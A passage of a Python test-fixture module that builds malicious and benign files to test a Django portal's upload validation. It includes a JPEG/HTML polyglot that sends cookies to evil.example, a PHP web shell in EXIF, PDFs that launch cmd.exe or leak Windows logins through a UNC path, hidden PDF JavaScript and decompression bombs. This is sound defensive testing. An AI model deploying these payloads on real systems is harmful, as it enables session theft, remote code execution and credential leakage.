"""Uploads to throw at the upload checks (``uploads``), made in code: bad ones with the code each must get, good ones.

Every upload test in the portal reuses these. A photo upload (JPEG, PNG) expects ``BadUpload.code``; an upload
that also takes PDFs (the signed "gagal 3 kali" statement) expects ``BadUpload.expected(DOCUMENT_KINDS)``,
which is None where that caller accepts the file::

    @pytest.mark.parametrize("bad", BAD_UPLOADS, ids=lambda bad: bad.name)
    def test_statement_upload_refuses(bad): ...

Contents are built once per process (``functools.cache``); the largest is the 10 MB + 1 file, zeros.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin
from pypdf import PdfWriter

from uploads import DOCUMENT_KINDS, PHOTO_KINDS, FileKind, UploadErrorCode

E = UploadErrorCode


class _Same:
    def __repr__(self) -> str:
        return "SAME"


SAME = _Same()  # the document caller expects the same code as the photo caller

# --- Builders -----------------------------------------------------------------------------------------


def card_image(size: tuple[int, int] = (1280, 960), *, mode: str = "RGB", seed: int = 1) -> Image.Image:
    """A photo-like picture: a gradient with a blue card on it and lines of "text"; a red mark top-left."""
    width, height = size
    gradient = Image.linear_gradient("L").resize(size)
    mirrored = gradient.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
    image = Image.merge("RGB", [gradient, mirrored, Image.new("L", size, 150)])
    draw = ImageDraw.Draw(image)
    left, top = width // 5, height // 5
    card = (left, top, width - left, height - top)
    draw.rounded_rectangle(card, radius=max(4, width // 60), fill=(110, 165, 210))
    rng = random.Random(seed)
    line_height = max(2, height // 40)
    for row in range(6):
        y = top + line_height * (2 + 3 * row)
        x = left + line_height
        draw.rectangle((x, y, x + rng.randint(width // 6, width // 3), y + line_height), fill=(20, 20, 30))
    mark = max(4, min(size) // 10)
    draw.rectangle((0, 0, mark, mark), fill=(255, 0, 0))
    return image.convert(mode) if mode != "RGB" else image


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (1280, 960), **options) -> bytes:
    options.setdefault("quality", 85)
    return encode(card_image(size), "JPEG", **options)


def png(size: tuple[int, int] = (1280, 800), mode: str = "RGB", **options) -> bytes:
    return encode(card_image(size, mode=mode), "PNG", **options)


def png_chunk(chunk_type: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + chunk_type + body + struct.pack(">I", zlib.crc32(chunk_type + body))


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    chunks, pos = [], 8
    while pos < len(data):
        length, chunk_type = struct.unpack(">I4s", data[pos : pos + 8])
        chunks.append((chunk_type, data[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return chunks


def png_from_chunks(chunks: list[tuple[bytes, bytes]]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(t, b) for t, b in chunks)


def jpeg_insert_segment(data: bytes, marker: int, payload: bytes) -> bytes:
    """``data`` with one more marker segment right after SOI."""
    return data[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def jpeg_with_frame_size(data: bytes, width: int, height: int) -> bytes:
    """``data`` with its frame header (SOF) claiming another size; the pixel data is unchanged."""
    pos = 2
    while True:
        marker = data[pos + 1]
        length = struct.unpack(">H", data[pos + 2 : pos + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            return data[: pos + 5] + struct.pack(">HH", height, width) + data[pos + 9 :]
        pos += 2 + length


def pdf(objects: list[bytes], *, trailer: bytes = b"", version: bytes = b"1.7", after_header: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; object n is objects[n - 1], object 1 the catalog."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n" + after_header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf_stream(dictionary: bytes, data: bytes, *, compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data)
        dictionary += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def letter_pdf(
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    more: tuple[bytes, ...] = (),
    open_action: bytes = b"[3 0 R /Fit]",
    link: bytes = b"<< /S /GoTo /D [3 0 R /Fit] >>",
    **options,
) -> bytes:
    """A one-page "surat pernyataan": Helvetica text in a compressed content stream, an /OpenAction that is only
    a destination (open at page 1, fit, as word processors and fpdf2 write it) and a link within the page."""
    content = b"BT /F1 16 Tf 72 760 Td (SURAT PERNYATAAN) Tj 0 -24 Td (Saya yang bertanda tangan) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s%s >>" % (open_action, catalog_extra),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R /Annots [6 0 R]%s >>" % page_extra,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        pdf_stream(b"", content),
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A %s >>" % link,
        *more,
    ]
    return pdf(objects, **options)


def pdf_with_xref_stream(objects: dict[int, bytes], packed: dict[int, tuple[int, int]]) -> bytes:
    """A PDF 1.5 whose cross-reference is a stream, so objects can live in object streams: ``objects`` are the
    top-level bodies by number, ``packed`` maps each object kept in an object stream to (that stream's number,
    its index there). Object 1 is the catalog; the cross-reference stream takes the next free number."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_number = max([*objects, *packed]) + 1
    offsets[xref_number] = len(out)
    rows = []
    for number in range(xref_number + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in packed:
            rows.append(struct.pack(">BIH", 2, *packed[number]))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0))
    table = b"".join(rows)
    dictionary = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (xref_number + 1, len(table))
    out += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (xref_number, dictionary, table)
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def object_stream_content(objects: list[tuple[int, bytes]]) -> tuple[bytes, bytes]:
    """(header, objects) of an object stream's decoded data: "number offset" pairs, then the objects."""
    header, body = b"", b""
    for number, text in objects:
        header += b"%d %d " % (number, len(body))
        body += text + b" "
    return header, body


def zlib_stored_then_deflated(first: bytes, rest: bytes) -> bytes:
    """One valid zlib stream in two deflate blocks: ``first`` stored as is (readable in the file's bytes),
    ``rest`` compressed."""
    stored = b"\x00" + struct.pack("<HH", len(first), len(first) ^ 0xFFFF) + first  # BFINAL 0, BTYPE 00
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = compressor.compress(rest) + compressor.flush()
    return b"\x78\x01" + stored + deflated + struct.pack(">I", zlib.adler32(first + rest))


def _letter_objects() -> dict[int, bytes]:
    """Objects 2-5 of ``letter_pdf`` (pages, page, font, content) for PDFs built around another catalog."""
    content = b"BT /F1 16 Tf 72 760 Td (SURAT PERNYATAAN) Tj ET"
    return {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: pdf_stream(b"", content),
    }


def pdf_javascript_behind_endstream() -> bytes:
    """The security review's finding: a compressed object stream whose first deflate block (stored, so its
    bytes are plain in the file) holds the word ``endstream``, and whose next block holds the catalog with an
    /OpenAction that runs JavaScript. A scanner that ends the stream at the first ``endstream`` inflates only
    the truncated start, and never sees the catalog."""
    decoy = b"(endstream)"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
    header, body = object_stream_content([(8, decoy), (1, catalog)])
    data = zlib_stored_then_deflated(header + body[: len(decoy) + 1], body[len(decoy) + 1 :])
    objstm = b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(header),
        len(data),
        data,
    )
    return pdf_with_xref_stream({**_letter_objects(), 6: objstm}, {8: (6, 0), 1: (6, 1)})


def heic_header() -> bytes:
    """The start of an iPhone HEIC: an ftyp box with brand "heic" and a meta box; enough for sniffing."""
    ftyp = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"
    return ftyp + b"\x00\x00\x01\x00meta\x00\x00\x00\x00" + bytes(240)


def _pixel_bomb_png(side: int = 30_000) -> bytes:
    """A real, valid PNG of side × side blank 1-bit pixels: ~110 KB of deflate that inflates to ~112 MB.

    Built fast: 1,000 rows are deflated once from a fresh state and sync-flushed, which makes the result a
    self-contained, byte-aligned run of deflate blocks that can simply be repeated.
    """
    row = b"\x00" + bytes((side + 7) // 8)  # filter byte + packed bits
    rows_per_block, repeats = 1000, side // 1000
    assert rows_per_block * repeats == side
    block = row * rows_per_block
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = deflate.compress(block) + deflate.flush(zlib.Z_SYNC_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty final block
    checksum = 1
    for _ in range(repeats):
        checksum = zlib.adler32(block, checksum)
    idat = b"\x78\xda" + chunk * repeats + final + struct.pack(">I", checksum)
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return png_from_chunks([(b"IHDR", ihdr), (b"IDAT", idat), (b"IEND", b"")])


def _exe() -> bytes:
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00"
    return stub + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(200) + b"PE\x00\x00"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("ktp.jpg", jpeg((640, 480)))
    return out.getvalue()


def _apng() -> bytes:
    frames = [card_image((800, 600), seed=seed) for seed in (1, 2, 3)]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=200, loop=0)


def _animated_gif() -> bytes:
    frames = [card_image((800, 600), seed=seed).convert("P") for seed in (1, 2)]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=200)


def _png_with_bad_crc() -> bytes:
    data = bytearray(png((800, 600)))
    idat = data.index(b"IDAT")
    data[idat + 40] ^= 0xFF  # a byte of compressed data; its chunk's CRC now disagrees
    return bytes(data)


def _png_with_broken_deflate() -> bytes:
    """Every CRC right, but the IDAT is not a deflate stream: only decoding can tell."""
    chunks = png_chunks(png((800, 600)))
    rng = random.Random(3)
    return png_from_chunks([(t, rng.randbytes(len(b)) if t == b"IDAT" else b) for t, b in chunks])


def _png_with_zero_width() -> bytes:
    chunks = png_chunks(png((800, 600)))
    width_zero = struct.pack(">I", 0) + chunks[0][1][4:]
    return png_from_chunks([(b"IHDR", width_zero), *chunks[1:]])


def _png_with_script_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>fetch('/admin/')</script>")
    return png((800, 600), pnginfo=info)


def _png_with_compressed_script_text_chunk() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Description", "<svg onload=alert(1)>" + "x" * 2000, zip=True)
    return png((800, 600), pnginfo=info)


def _jpeg_with_php_in_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"  # ImageDescription
    return jpeg(exif=exif)


def _jpeg_polyglot_html() -> bytes:
    """An HTML page in an APP segment: the classic image/HTML polyglot a browser sniffing the bytes runs."""
    page = b"<html><body><script>location='https://evil.example/?c='+document.cookie</script></body></html>"
    return jpeg_insert_segment(jpeg(), 0xEC, page)


def _svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" '
        b'onload="alert(document.domain)"><rect width="800" height="600" fill="blue"/></svg>\n'
    )


def _mp4() -> bytes:
    return b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00\x00\x00\x08free" + bytes(500)


def _encrypted_pdf() -> bytes:
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -3904 >>" % (b"ab" * 32, b"cd" * 32)
    file_id = b"<0123456789abcdef0123456789abcdef>"
    return letter_pdf(more=(encrypt,), trailer=b" /Encrypt 7 0 R /ID [%s %s]" % (file_id, file_id))


def _pdf_with_packed_link_action(action: bytes, objstm_extra: bytes = b"") -> bytes:
    """A PDF 1.5 whose page's link runs ``action``, an object packed (compressed) in an object stream."""
    objects = _letter_objects()
    objects[3] = objects[3].replace(b"/Contents 5 0 R", b"/Contents 5 0 R /Annots [7 0 R]")
    objects[7] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 8 0 R >>"
    header, body = object_stream_content([(8, action), (1, b"<< /Type /Catalog /Pages 2 0 R >>")])
    objects[6] = pdf_stream(b"/Type /ObjStm /N 2 /First %d%s" % (len(header), objstm_extra), header + body)
    return pdf_with_xref_stream(objects, {8: (6, 0), 1: (6, 1)})


def _pdf_javascript_in_object_stream() -> bytes:
    """JavaScript hidden the way PDF 1.5+ hides dictionaries: compressed in an object stream, and its names
    spelled with #xx escapes (/J#61vaScript is /JavaScript)."""
    return _pdf_with_packed_link_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def _pdf_javascript_in_object_stream_posing_as_image() -> bytes:
    """An object stream that also calls itself an image, hoping a checker skips pictures."""
    return _pdf_with_packed_link_action(
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b" /Subtype /Image /Width 1 /Height 1"
    )


def _pdf_with_scanned_page() -> bytes:
    """A scanned page stored as pixels, raw and compressed, whose bytes happen to spell names and tags that
    would be refused anywhere else: pixels are never read as PDF syntax."""
    rng = random.Random(11)
    pixels = rng.randbytes(3000) + b" /JavaScript /JS (x) <script> " + rng.randbytes(3000)
    picture = b"/Type /XObject /Subtype /Image /Width 64 /Height 32 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    raw = pdf_stream(picture, pixels, compress=False)
    packed = pdf_stream(picture, pixels)
    icc = pdf_stream(b"/N 3 /Alternate /DeviceRGB", b"/EF " + rng.randbytes(2000))
    return letter_pdf(page_extra=b" /XObject << /Im1 7 0 R /Im2 8 0 R >>", more=(raw, packed, icc))


def _pdf_embedded_file() -> bytes:
    embedded = pdf_stream(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", _exe())
    filespec = b"<< /Type /Filespec /F (surat.exe) /EF << /F 8 0 R >> >>"
    names = b" /Names << /EmbeddedFiles << /Names [(surat.exe) 7 0 R] >> >>"
    return letter_pdf(catalog_extra=names, more=(filespec, embedded))


def _pdf_rewritten_by_pypdf(edit: Callable[[PdfWriter], None], *, incremental: bool = False) -> bytes:
    """``clean_pdf`` after ``edit``, written by pypdf's writer, as tools that post-process PDFs write them;
    ``incremental`` appends the changes as an update after the original bytes, as signing apps do."""
    writer = PdfWriter(io.BytesIO(clean_pdf()), incremental=incremental)
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_encrypted_by_pypdf(algorithm: str) -> bytes:
    """Encrypted with an owner password only, so any viewer opens it without asking: still not inspectable."""
    return _pdf_rewritten_by_pypdf(lambda writer: writer.encrypt("", "pemilik", algorithm=algorithm))


def _pdf_attachment_by_pypdf() -> bytes:
    """An attachment as pypdf (and Acrobat) add one: an /EmbeddedFiles name tree in the catalog's /Names."""
    return _pdf_rewritten_by_pypdf(lambda writer: writer.add_attachment("surat.exe", _exe()))


def _pdf_with_raw_stream(dictionary: bytes, data: bytes) -> bytes:
    """``letter_pdf`` with one more stream (object 7), its data as given."""
    return letter_pdf(more=(pdf_stream(dictionary, data, compress=False),))


def _pdf_truncated_flate() -> bytes:
    """A Flate stream cut short with its /Length to match: every offset right, only inflating to the end tells."""
    drawing = b"BT /F1 12 Tf 72 700 Td (Tanda tangan) Tj ET\n" * 200
    return _pdf_with_raw_stream(b"/Filter /FlateDecode", zlib.compress(drawing)[:-40])


def _pdf_flate_bomb(size: int = 200 * 1024 * 1024) -> bytes:
    """200 MB of zeros in ~200 KB of Flate: refused while inflating, never inflated whole."""
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    data = b"".join(compressor.compress(block) for _ in range(size // len(block))) + compressor.flush()
    return _pdf_with_raw_stream(b"/Filter /FlateDecode", data)


def _pdf_with_xfa() -> bytes:
    xdp = pdf_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    return letter_pdf(catalog_extra=b" /AcroForm << /Fields [] /XFA 7 0 R >>", more=(xdp,))


# --- The catalogue ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadUpload:
    name: str
    filename: str
    content: Callable[[], bytes]
    code: UploadErrorCode  # what a photo upload (JPEG, PNG) answers
    document_code: UploadErrorCode | _Same | None = SAME  # what a PDF/JPG/PNG upload answers; None: accepted
    content_type: str = "image/jpeg"  # what the browser claims; never believed

    def expected(self, allowed: frozenset[FileKind]) -> UploadErrorCode | None:
        if FileKind.PDF in allowed and not isinstance(self.document_code, _Same):
            return self.document_code
        return self.code

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.filename, self.content(), content_type=self.content_type)


@dataclass(frozen=True)
class GoodUpload:
    name: str
    filename: str
    content: Callable[[], bytes]
    kind: FileKind
    allowed: frozenset[FileKind] = PHOTO_KINDS
    from_camera: bool = False
    camera: str = ""
    content_type: str = "image/jpeg"

    def upload(self) -> SimpleUploadedFile:
        return SimpleUploadedFile(self.filename, self.content(), content_type=self.content_type)


def _pdf(name: str, content: Callable[[], bytes], document_code: UploadErrorCode | None, filename="surat.pdf"):
    """A PDF entry: photo uploads refuse it as a PDF; document uploads answer ``document_code``."""
    return BadUpload(name, filename, content, E.UNSUPPORTED_TYPE, document_code, "application/pdf")


@functools.cache
def _zeros_after_jpeg_header(size: int) -> bytes:
    return b"\xff\xd8\xff\xe0" + bytes(size - 4)


def oversized() -> bytes:
    """UPLOAD_MAX_BYTES + 1 bytes (read at call time, so a test overriding the setting gets its size)."""
    return _zeros_after_jpeg_header(settings.UPLOAD_MAX_BYTES + 1)


@functools.cache
def phone_photo() -> bytes:
    """What a mid-range Android phone sends: 4000 × 3000, ~4-5 MB, EXIF with make, model, time taken, GPS and
    Orientation 6 (held upright: the pixels are stored landscape, shown portrait), an ICC profile, XMP and a
    JPEG comment. The red mark sits at the top-left of the stored pixels."""
    size = (4000, 3000)
    patch = Image.merge("RGB", [Image.effect_noise((512, 512), 30) for _ in range(3)])  # sensor noise, tiled
    noise = Image.new("RGB", size)
    for x in range(0, size[0], 512):
        for y in range(0, size[1], 512):
            noise.paste(patch, (x, y))
    image = Image.blend(noise, card_image(size), 0.6)
    ImageDraw.Draw(image).rectangle((0, 0, 300, 300), fill=(255, 0, 0))
    exif = Image.Exif()
    exif[0x010F] = "samsung"  # Make
    exif[0x0110] = "SM-A515F"  # Model
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x0131] = "A515FXXU5HWA1"  # Software
    exif.get_ifd(0x8769)[0x9003] = "2024:05:01 10:00:00"  # DateTimeOriginal
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 12.0, 30.5), 3: "E", 4: (106.0, 49.0, 12.0)})  # GPS
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
    xmp += b"</x:xmpmeta>"
    return encode(image, "JPEG", quality=92, exif=exif, icc_profile=icc, xmp=xmp, comment=b"Samsung camera")


@functools.cache
def screenshot_png() -> bytes:
    return png((1280, 800))


@functools.cache
def small_jpeg() -> bytes:
    return jpeg()


@functools.cache
def clean_pdf() -> bytes:
    return letter_pdf()


def _cut(factory: Callable[[], bytes], fraction: float) -> Callable[[], bytes]:
    return functools.cache(lambda: factory()[: int(len(factory()) * fraction)])


def _append(factory: Callable[[], bytes], extra: bytes | Callable[[], bytes]) -> Callable[[], bytes]:
    return functools.cache(lambda: factory() + (extra() if callable(extra) else extra))


def _cached(factory: Callable[[], bytes]) -> Callable[[], bytes]:
    return functools.cache(factory)


def _letter_with(**options) -> Callable[[], bytes]:
    return functools.cache(lambda: letter_pdf(**options))


def _image(size: tuple[int, int], fmt: str, mode: str = "RGB") -> Callable[[], bytes]:
    return functools.cache(lambda: encode(card_image(size, mode=mode), fmt))


_JFIF_ONLY = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
_HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
_JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH = b" /AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>"
_JS_LINK = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
_URI_ACTION = b"<< /S /URI /URI (https://prakerja.example/masuk/) >>"
_LAUNCH_ACTION = b"<< /S /Launch /F (cmd.exe) >>"
_GOTOR_ACTION = b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"  # leaks a Windows login
_PAGE_AA = b" /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"
_PRINT_ACTION = b"<< /S /Named /N /Print >>"

BAD_UPLOADS: list[BadUpload] = [
    # Size
    BadUpload("empty file", "foto.jpg", lambda: b"", E.EMPTY),
    BadUpload("over the size limit by one byte", "foto.jpg", oversized, E.TOO_LARGE),
    # Not what the name says
    BadUpload("text file named .jpg", "ktp.jpg", lambda: b"Ini bukan foto, hanya teks.\n" * 20, E.NOT_AN_IMAGE),
    BadUpload("text file without extension", "foto", lambda: b"NIK 3273010101010001\n", E.NOT_AN_IMAGE),
    BadUpload("random bytes named .png", "ktp.png", _cached(lambda: random.Random(5).randbytes(4096)), E.NOT_AN_IMAGE),
    BadUpload("HTML page named .jpg", "ktp.jpg", lambda: _HTML_PAGE, E.UNSUPPORTED_TYPE),
    BadUpload("SVG named .png", "ktp.png", _svg, E.UNSUPPORTED_TYPE, content_type="image/png"),
    BadUpload("SVG", "ktp.svg", _svg, E.UNSUPPORTED_TYPE, content_type="image/svg+xml"),
    # Formats this portal does not take
    BadUpload("HEIC from an iPhone", "IMG_0001.HEIC", heic_header, E.HEIC, content_type="image/heic"),
    BadUpload("HEIC renamed to .jpg", "IMG_0001.jpg", heic_header, E.HEIC),
    BadUpload("AVIF", "foto.avif", _image((64, 48), "AVIF"), E.UNSUPPORTED_TYPE),
    BadUpload("WebP", "foto.webp", _image((800, 600), "WEBP"), E.UNSUPPORTED_TYPE),
    BadUpload("GIF", "foto.gif", _image((800, 600), "GIF", mode="P"), E.UNSUPPORTED_TYPE),
    BadUpload("animated GIF", "foto.gif", _cached(_animated_gif), E.UNSUPPORTED_TYPE),
    BadUpload("BMP", "foto.bmp", _image((800, 600), "BMP"), E.UNSUPPORTED_TYPE),
    BadUpload("TIFF", "scan.tif", _image((800, 600), "TIFF"), E.UNSUPPORTED_TYPE),
    BadUpload("ZIP", "ktp.zip", _cached(_zip), E.UNSUPPORTED_TYPE),
    BadUpload("ZIP named .jpg", "ktp.jpg", _cached(_zip), E.UNSUPPORTED_TYPE),
    BadUpload("Windows program named .jpg", "ktp.jpg", _exe, E.UNSUPPORTED_TYPE),
    BadUpload("video named .jpg", "ktp.jpg", _mp4, E.UNSUPPORTED_TYPE),
    _pdf("a clean PDF offered as a photo", clean_pdf, None, filename="ktp.pdf"),
    _pdf("a PDF named .jpg", clean_pdf, E.EXTENSION_MISMATCH, filename="ktp.jpg"),
    # Extension against content
    BadUpload("JPEG named .html", "ktp.html", small_jpeg, E.EXTENSION_MISMATCH),
    BadUpload("JPEG named .pdf", "surat.pdf", small_jpeg, E.EXTENSION_MISMATCH),
    BadUpload("PNG named .exe", "ktp.exe", screenshot_png, E.EXTENSION_MISMATCH),
    BadUpload("JPEG named .php", "shell.php", small_jpeg, E.EXTENSION_MISMATCH),
    # Broken
    BadUpload("JPEG with only the SOI marker", "ktp.jpg", lambda: b"\xff\xd8", E.CORRUPT),
    BadUpload("JPEG headers without image data", "ktp.jpg", lambda: _JFIF_ONLY, E.CORRUPT),
    BadUpload("truncated JPEG", "ktp.jpg", _cut(small_jpeg, 0.6), E.CORRUPT),
    BadUpload("truncated progressive JPEG", "ktp.jpg", _cut(_cached(lambda: jpeg(progressive=True)), 0.6), E.CORRUPT),
    BadUpload("truncated PNG", "ktp.png", _cut(screenshot_png, 0.6), E.CORRUPT),
    BadUpload("PNG with a bad CRC", "ktp.png", _cached(_png_with_bad_crc), E.CORRUPT),
    BadUpload("PNG whose pixel data is not deflate", "ktp.png", _cached(_png_with_broken_deflate), E.CORRUPT),
    BadUpload("PNG zero pixels wide", "ktp.png", _cached(_png_with_zero_width), E.CORRUPT),
    # Too many or too few pixels
    BadUpload("PNG pixel bomb, 30000 x 30000", "ktp.png", _cached(_pixel_bomb_png), E.TOO_MANY_PIXELS),
    BadUpload(
        "JPEG header claiming 9000 x 5000",
        "ktp.jpg",
        _cached(lambda: jpeg_with_frame_size(jpeg((800, 600)), 9000, 5000)),
        E.TOO_MANY_PIXELS,
    ),
    BadUpload(
        "JPEG header claiming 65535 x 65535",
        "ktp.jpg",
        _cached(lambda: jpeg_with_frame_size(jpeg((800, 600)), 65535, 65535)),
        E.TOO_MANY_PIXELS,
    ),
    BadUpload("50 x 50 JPEG", "ktp.jpg", _cached(lambda: jpeg((50, 50))), E.TOO_SMALL),
    BadUpload("chat thumbnail 320 x 240", "ktp.jpg", _cached(lambda: jpeg((320, 240))), E.TOO_SMALL),
    BadUpload("strip 1600 x 300", "ktp.png", _cached(lambda: png((1600, 300))), E.TOO_SMALL),
    # Animated
    BadUpload("animated PNG", "ktp.png", _cached(_apng), E.ANIMATED),
    # Hidden content
    BadUpload("PNG with a script after IEND", "ktp.png", _append(screenshot_png, b"<script>"), E.HIDDEN_CONTENT),
    BadUpload("PNG with a ZIP after IEND", "ktp.png", _append(screenshot_png, _zip), E.HIDDEN_CONTENT),
    BadUpload("PNG with a script in a text chunk", "ktp.png", _cached(_png_with_script_text_chunk), E.HIDDEN_CONTENT),
    BadUpload(
        "PNG with SVG in a compressed text chunk",
        "ktp.png",
        _cached(_png_with_compressed_script_text_chunk),
        E.HIDDEN_CONTENT,
    ),
    BadUpload(
        "JPEG with a script in its comment",
        "ktp.jpg",
        _cached(lambda: jpeg(comment=b"<script>alert(1)</script>")),
        E.HIDDEN_CONTENT,
    ),
    BadUpload("JPEG/HTML polyglot", "ktp.jpg", _cached(_jpeg_polyglot_html), E.HIDDEN_CONTENT),
    BadUpload("JPEG with PHP in its EXIF", "ktp.jpg", _cached(_jpeg_with_php_in_exif), E.HIDDEN_CONTENT),
    BadUpload("JPEG with HTML after the end of image", "ktp.jpg", _append(small_jpeg, _HTML_PAGE), E.HIDDEN_CONTENT),
    # PDFs: photo uploads refuse them as PDFs; document uploads look inside
    _pdf(
        "PDF with JavaScript run on open",
        _cached(lambda: letter_pdf(catalog_extra=b" /Names << /JavaScript 7 0 R >>", more=(_JS_ACTION,))),
        E.PDF_ACTIVE_CONTENT,
    ),
    _pdf("PDF with JavaScript in an object stream", _cached(_pdf_javascript_in_object_stream), E.PDF_ACTIVE_CONTENT),
    _pdf(
        "PDF with JavaScript in an object stream posing as an image",
        _cached(_pdf_javascript_in_object_stream_posing_as_image),
        E.PDF_ACTIVE_CONTENT,
    ),
    _pdf("PDF with a launch action", _cached(lambda: letter_pdf(page_extra=_LAUNCH)), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with an embedded file", _cached(_pdf_embedded_file), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with a javascript: link", _cached(lambda: letter_pdf(more=(_JS_LINK,))), E.PDF_ACTIVE_CONTENT),
    _pdf("encrypted PDF", _cached(_encrypted_pdf), E.PDF_ENCRYPTED),
    _pdf(
        "PDF hiding JavaScript behind a deflate block that spells endstream",
        _cached(pdf_javascript_behind_endstream),
        E.PDF_ACTIVE_CONTENT,
    ),
    _pdf("PDF with a web link (URI action)", _cached(lambda: letter_pdf(link=_URI_ACTION)), E.PDF_ACTIVE_CONTENT),
    _pdf("PDF with a link that launches a program", _letter_with(link=_LAUNCH_ACTION), E.PDF_ACTIVE_CONTENT),
